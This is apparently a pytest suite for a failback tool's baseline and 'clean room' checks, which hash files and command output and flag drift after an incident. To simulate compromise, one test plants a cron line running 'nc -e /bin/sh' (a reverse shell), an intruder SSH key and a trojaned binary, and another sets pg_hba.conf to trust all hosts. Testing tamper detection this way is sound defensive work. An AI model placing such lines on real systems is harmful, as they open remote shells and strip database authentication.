"""Baselines and the clean room, without servers: the topology section, hashing on the
local machine (a real LocalHost, real files and commands), the comparison, the private
file, the planner's gate, and the CLI's refusals."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest

from failback.baseline.compare import compare
from failback.baseline.files import load_baseline, recorded_at, save_baseline
from failback.baseline.measure import measure_host
from failback.baseline.site import declared_for, measure_declared, record_site
from failback.config import ConfigError, load_topology_text
from failback.errors import PlanRefused, UsageError
from failback.hosts import HostSet, LocalHost
from failback.model.observed import ServiceState
from failback.plan.planners import plan_failback
from tests.conftest import run_cli
from tests.unit.test_planner import PG_TOPOLOGY, state


def topology_with(tmp_path: Path, baseline: str) -> Any:
    text = f"state_dir: {tmp_path / 'state'}\n{PG_TOPOLOGY}{baseline}"
    path = tmp_path / "failback.yaml"
    path.write_text(text)
    return load_topology_text(text, str(path))


def site_files(tmp_path: Path) -> tuple[Path, Path]:
    """A binary-ish file shared by every site, and a directory of dc1's own files."""
    shared = tmp_path / "bin" / "postgres"
    shared.parent.mkdir()
    shared.write_bytes(b"\x7fELF\x00\xff binary")
    own = tmp_path / "dc1 conf"
    own.mkdir()
    (own / "pg_hba.conf").write_text("local all all peer\n")
    return shared, own


def baseline_section(shared: Path, own: Path) -> str:
    return f"""\
baseline:
  files: ["{shared}"]
  commands:
    listing: printf 'a\\nb\\n'
  sites:
    dc1:
      files: ["{own}/*", "{own}/authorized_keys"]
"""


# --- the topology section ---------------------------------------------------------------


def test_a_site_gets_the_shared_items_then_its_own(tmp_path: Path) -> None:
    shared, own = site_files(tmp_path)
    topology = topology_with(tmp_path, baseline_section(shared, own))
    dc1 = topology.baseline.for_site("dc1")
    assert dc1.files == [str(shared), f"{own}/*", f"{own}/authorized_keys"]
    assert topology.baseline.for_site("dc2").files == [str(shared)]
    assert dc1.commands == {"listing": "printf 'a\\nb\\n'"}
    assert topology.site_hosts("dc1") == ["local"]


@pytest.mark.parametrize(
    ("section", "where", "says"),
    [
        ("baseline:\n  files: [etc/passwd]\n", "baseline.files[0]", "absolute path"),
        ("baseline:\n  files: [/a, /a]\n", "baseline.files", "listed twice"),
        ("baseline:\n  sites:\n    dc3: {files: [/a]}\n", "baseline.sites.dc3", "dc3"),
        ("baseline:\n  commands: {'bad name': ls}\n", "baseline.commands", "command name"),
        ("baseline:\n  files: [/a]\n  colour: red\n", "baseline.colour", "unknown key"),
    ],
)
def test_a_wrong_baseline_section_is_refused_at_its_line(
    tmp_path: Path, section: str, where: str, says: str
) -> None:
    with pytest.raises(ConfigError) as info:
        topology_with(tmp_path, section)
    problems = [p for p in info.value.problems if p.key.startswith(where)]
    assert problems, [str(p) for p in info.value.problems]
    assert says in str(problems[0]), str(problems[0])
    assert problems[0].line is not None


def test_nothing_declared_is_refused_with_a_hint(tmp_path: Path) -> None:
    with pytest.raises(UsageError) as info:
        declared_for(topology_with(tmp_path, ""), "dc1")
    assert "no baseline: section" in info.value.message and info.value.hint
    with pytest.raises(UsageError) as unknown:
        declared_for(topology_with(tmp_path, "baseline: {files: [/a]}\n"), "dc3")
    assert "dc3" in unknown.value.message


# --- measuring on a real machine -------------------------------------------------------


def test_files_globs_and_commands_are_hashed_on_the_host(tmp_path: Path) -> None:
    shared, own = site_files(tmp_path)
    (own / "sub").mkdir()
    facts = measure_host(
        LocalHost(),
        [str(shared), f"{own}/*", str(tmp_path / "nothing here"), f"{tmp_path}/none*"],
        {"listing": "printf 'a\\nb\\n'", "fails": "echo out; exit 3"},
        timeout=10,
        max_output=1024,
    )
    files = facts["files"]
    assert files[str(shared)]["state"] == "file"
    assert len(files[str(shared)]["sha256"]) == 64
    assert files[f"{own}/pg_hba.conf"]["state"] == "file"  # the glob, with a space in the dir
    assert files[f"{own}/sub"]["state"] == "directory"
    assert files[str(tmp_path / "nothing here")]["state"] == "missing"
    assert files[f"{tmp_path}/none*"]["state"] == "missing"  # a glob that matched nothing
    assert facts["commands"]["listing"]["exit"] == 0
    assert facts["commands"]["listing"]["output"] == "a\nb\n"
    assert facts["commands"]["fails"]["exit"] == 3


def test_a_changed_missing_and_new_file_and_a_changed_output_are_all_shown(
    tmp_path: Path,
) -> None:
    shared, own = site_files(tmp_path)
    topology = topology_with(tmp_path, baseline_section(shared, own))
    with HostSet() as hosts:
        baseline = record_site(topology, hosts, "dc1")
        assert compare(baseline, measure_declared(hosts, baseline["declared"])) == []
        shared.write_bytes(b"\x7fELF\x00\xff trojan")
        (own / "pg_hba.conf").unlink()
        (own / "authorized_keys").write_text("ssh-ed25519 AAAA intruder\n")
        (own / "cron").write_text("* * * * * root nc -e /bin/sh x 1\n")
        declared = {**baseline["declared"], "commands": {"listing": "printf 'a\\nc\\n'"}}
        found = compare(baseline, measure_declared(hosts, declared))
    seen = {(d.item, d.change) for d in found}
    assert seen == {
        (str(shared), "changed"),
        (f"{own}/pg_hba.conf", "missing"),
        (f"{own}/authorized_keys", "new"),
        (f"{own}/cron", "new"),
        ("listing", "changed"),
    }
    listing = next(d for d in found if d.item == "listing")
    assert listing.lines == ["-b", "+c"]
    assert all(d.host == "local" for d in found)
    assert "changed (sha256" in next(d for d in found if d.item == str(shared)).line()


def test_a_machine_that_cannot_be_measured_is_a_difference(tmp_path: Path) -> None:
    baseline = {"hosts": {"dc1-box": {"files": {}, "commands": {}}}}
    (found,) = compare(baseline, {"dc1-box": {"error": "ssh: connection refused"}})
    assert (found.change, found.after) == ("unreachable", "ssh: connection refused")


# --- the private file -------------------------------------------------------------------


def test_the_baseline_file_is_private_and_checked_when_read(tmp_path: Path) -> None:
    state_dir = tmp_path / "state"
    document = {"format": 1, "site": "dc1", "recorded_at": 12.5, "hosts": {}}
    path = save_baseline(state_dir, document)
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(path.parent).st_mode) == 0o700
    assert load_baseline(state_dir, "dc1") == document
    assert recorded_at(state_dir, "dc1") == 12.5
    assert load_baseline(state_dir, "dc2") is None
    path.rename(path.with_name("dc2.json"))
    with pytest.raises(UsageError, match="not of dc2"):
        load_baseline(state_dir, "dc2")
    path.with_name("dc2.json").write_text("{not json")
    with pytest.raises(UsageError, match="invalid JSON"):
        load_baseline(state_dir, "dc2")
    assert recorded_at(state_dir, "dc2") is None
    with pytest.raises(UsageError):
        load_baseline(state_dir, "../dc1")


# --- the planner ------------------------------------------------------------------------

MARK = {"reason": "ssh keys stolen", "by": "alice", "at": 100.0}


def away(**extra: Any) -> ServiceState:
    base = state("dc2", ("stale-primary", True), ("primary", True))
    return base.model_copy(update=extra)


def test_a_marked_failback_passes_the_clean_room_before_anything_reaches_home(
    tmp_path: Path,
) -> None:
    svc = topology_with(tmp_path, "").service("app")
    plan = plan_failback("app", svc, away(after_incident=MARK, baseline_recorded_at=50.0))
    order = [s.id for s in plan.steps]
    gate = plan.steps[order.index("clean_room")]
    assert gate.action == "gate.clean_room" and gate.site == "dc1" and gate.kind == "gate"
    assert order[:2] == ["fence-router-dc1", "clean_room"]  # dc1 kept fenced, then the gate
    touching = [i for i, s in enumerate(plan.steps) if s.id.startswith(("capture", "resync"))]
    assert touching and order.index("clean_room") < min(touching)
    assert order.index("clean_room") < order.index("precheck")
    assert order[-1] == "incident_clear"
    assert plan.steps[-1].params["marked_at"] == 100.0


def test_a_failback_of_an_unmarked_service_has_no_clean_room(tmp_path: Path) -> None:
    svc = topology_with(tmp_path, "").service("app")
    order = [s.id for s in plan_failback("app", svc, away()).steps]
    assert "clean_room" not in order and "incident_clear" not in order


def test_a_marked_failback_without_a_baseline_is_refused_with_a_hint(tmp_path: Path) -> None:
    svc = topology_with(tmp_path, "").service("app")
    with pytest.raises(PlanRefused) as info:
        plan_failback("app", svc, away(after_incident=MARK))
    assert "no usable baseline" in info.value.message
    assert "failback baseline record dc1" in str(info.value.hint)


# --- the CLI's refusals (no server needed) -------------------------------------------------


def test_cli_refuses_bad_input_in_one_line_and_changes_nothing(tmp_path: Path) -> None:
    shared, own = site_files(tmp_path)
    topology_with(tmp_path, baseline_section(shared, own))
    config = str(tmp_path / "failback.yaml")
    for args, says, hint in [
        (("baseline", "show", "dc1"), "no baseline of dc1", "baseline record dc1"),
        (("baseline", "diff", "dc1"), "no baseline of dc1", "baseline record dc1"),
        (("baseline", "record", "dc3"), "no site 'dc3'", "did you mean"),
        (("incident", "mark", "ap"), "no service 'ap'", "did you mean 'app'"),
    ]:
        result = run_cli(*args, "-c", config)
        assert result.returncode == 2, (args, result.stdout, result.stderr)
        errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
        assert len(errors) == 1 and says in errors[0], result.stderr
        assert "hint: " in result.stderr and hint in result.stderr, result.stderr
        assert "Traceback" not in result.stderr
    assert not (tmp_path / "state" / "baselines").exists()


def test_cli_records_shows_and_diffs_a_site(tmp_path: Path) -> None:
    shared, own = site_files(tmp_path)
    topology_with(tmp_path, baseline_section(shared, own))
    config = str(tmp_path / "failback.yaml")
    recorded = run_cli("baseline", "record", "dc1", "-c", config, "--json")
    assert recorded.returncode == 0, recorded.stderr
    assert recorded.json()["files"] == 2  # the shared file and pg_hba.conf
    shown = run_cli("baseline", "show", "dc1", "-c", config, "--json").json()
    assert shown["hosts"]["local"]["files"][str(shared)]["state"] == "file"
    clean = run_cli("baseline", "diff", "dc1", "-c", config, "--json")
    assert (clean.returncode, clean.json()["clean"]) == (0, True)
    (own / "pg_hba.conf").write_text("host all all 0.0.0.0/0 trust\n")
    dirty = run_cli("baseline", "diff", "dc1", "-c", config)
    assert dirty.returncode == 1
    assert f"local: file {own}/pg_hba.conf changed" in dirty.stdout
    again = run_cli("baseline", "record", "dc1", "-c", config)  # stdin is not a terminal
    assert again.returncode == 2 and "--yes" in again.stderr
    document = json.loads((tmp_path / "state" / "baselines" / "dc1.json").read_text())
    assert document["recorded_at"] == shown["recorded_at"]  # not replaced


# --- the write API ------------------------------------------------------------------------


def test_the_api_marks_and_clears_a_service_with_the_token_only(tmp_path: Path) -> None:
    """The real application in-process (FastAPI's TestClient): no server, no lab needed."""
    from fastapi.testclient import TestClient

    from failback.api.app import create_app
    from failback.api.settings import resolve_settings
    from failback.store import open_journal

    topology = topology_with(tmp_path, "")
    token = "t" * 40
    settings = resolve_settings(topology, environ={"FAILBACK_API_TOKEN": token})
    auth = {"Authorization": f"Bearer {token}"}
    with TestClient(create_app(settings)) as client:
        refused = client.post("/api/v1/services/app/incident", json={"reason": "x"})
        assert refused.status_code == 401
        unknown = client.post("/api/v1/services/ap/incident", headers=auth, json={})
        assert unknown.status_code == 404
        marked = client.post(
            "/api/v1/services/app/incident", headers=auth, json={"reason": "keys", "by": "bob"}
        )
        assert marked.status_code == 200, marked.text
        assert marked.json()["after_incident"]["reason"] == "keys"
        journal = open_journal(topology.state_dir)
        try:
            assert journal.service_state("app")["after_incident"]["by"] == "bob"
            cleared = client.delete("/api/v1/services/app/incident", headers=auth)
            assert cleared.json()["cleared"] is True
            assert journal.service_state("app")["after_incident"] is None
            again = client.delete("/api/v1/services/app/incident", headers=auth)
            assert again.json()["cleared"] is False
        finally:
            journal.close()
